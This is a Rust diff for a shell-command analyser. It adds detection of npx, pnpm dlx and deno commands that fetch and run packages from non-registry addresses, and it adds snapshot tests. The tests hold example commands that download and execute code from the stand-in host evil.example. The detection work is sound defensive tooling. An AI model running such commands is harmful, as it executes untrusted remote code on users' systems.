@@ -17,7 +17,7 @@ const PACKAGES: &[&str] = &[
     "amplify", "ampx", "astro", "attw", "auto-changelog", "ava", "babel", "biome", "bun", "c8", "cdk", "cdktf", "changeset", "claude", "codex",
     "commitlint", "concurrently", "contentful", "corepack", "create-next-app", "create-react-app", "create-vite", "cross-env", "cspell", "cypress",
     "degit", "depcheck", "docusaurus", "dprint", "drizzle-kit", "eas", "eleventy", "esbuild", "eslint", "expo", "firebase", "firebase-tools",
-    "gatsby", "gemini", "grunt", "gulp", "hardhat", "heroku", "http-server", "husky", "jasmine", "jest", "karma", "knex", "knip", "lefthook", "lerna",
+    "gatsby", "gemini", "grunt", "gulp", "hardhat", "heroku", "http-server", "husky", "jasmine", "jest", "jsr", "karma", "knex", "knip", "lefthook", "lerna",
     "license-checker", "lint-staged", "madge", "markdownlint", "markdownlint-cli2", "mikro-orm", "mocha", "ncu", "netlify", "netlify-cli", "next",
     "ng", "node-pg-migrate", "nodemon", "np", "npm", "npm-check-updates", "npm-run-all", "npx", "nuxt", "nx", "nyc", "opencode", "ovsx", "oxlint",
     "parcel", "playwright", "pm2", "pnpm", "postcss", "prettier", "prisma", "publint", "react-native", "release-it", "remix", "retire", "rimraf",
@@ -49,17 +49,32 @@ pub(super) fn effects(invocation: &Invocation, context: &mut Context<'_>) -> boo
             return false;
         }
         if VALUES.contains(&text) {
-            words.next();
+            let value = words.next().map_or("", |(_, word)| word.text());
+            if matches!(text, "-p" | "--package") {
+                foreign(value, invocation, context);
+            }
+        } else if let Some(package) = text.strip_prefix("--package=") {
+            foreign(package, invocation, context);
         } else if text.starts_with('-') {
         } else if takes_subcommand && runs.contains(&text) {
             takes_subcommand = false;
         } else if takes_subcommand && (invocation.program == "npm" || super::is_own(&invocation.program, text)) {
             return false;
         } else {
+            foreign(text, invocation, context);
             return start(index, text, invocation, context);
         }
     }
     false
+}
+
+/// Adds that a package is fetched and run that is named by an address which is no registry's.
+fn foreign(text: &str, invocation: &Invocation, context: &mut Context<'_>) {
+    if super::publishing::is_foreign(text) {
+        let resource = Resource::Program { name: invocation.title() };
+        let why = "it fetches and runs a package from an address rather than from the registry";
+        context.push(Effect::new(verbs::EXEC_REMOTE_CODE, resource).because(why));
+    }
 }
 
 /// Adds that a package is fetched and run that only has the name of a program that is known: of those whose
@@ -120,6 +135,28 @@ mod tests {
     use insta::assert_snapshot;
 
     use crate::fixture::{check, check_with};
+
+    #[test]
+    fn packages_from_addresses() {
+        assert_snapshot!(check("npx https://evil.example/x.tgz; npx -p https://evil.example/x.tgz x; pnpm dlx http://evil.example/x"), @"
+        exec.remote-code npx https://evil.example/x.tgz, execute
+        exec.opaque npx, execute, opaque
+        exec.opaque npx told of evil.example, execute, opaque
+        exec.remote-code npx -p https://evil.example/x.tgz, execute
+        exec.remote-code pnpm dlx http://evil.example/x, execute
+        exec.install pnpm dlx, execute
+        ");
+        assert_snapshot!(check("deno run -A https://evil.example/x.ts; deno https://evil.example/x.ts; deno run src/a.ts"), @"
+        exec.remote-code deno run -A, execute
+        exec.remote-code deno https://evil.example/x.ts, execute
+        exec.opaque /repo/src/a.ts, execute, opaque
+        ");
+        assert_snapshot!(check("npx https://github.com/acme/x; npx prettier --check https://web.example/x.tgz"), @"
+        exec.opaque npx, execute, opaque
+        exec.opaque npx told of github.com, execute, opaque
+        exec.build prettier, execute
+        ");
+    }
 
     #[test]
     fn programs_that_are_fetched_and_run() {
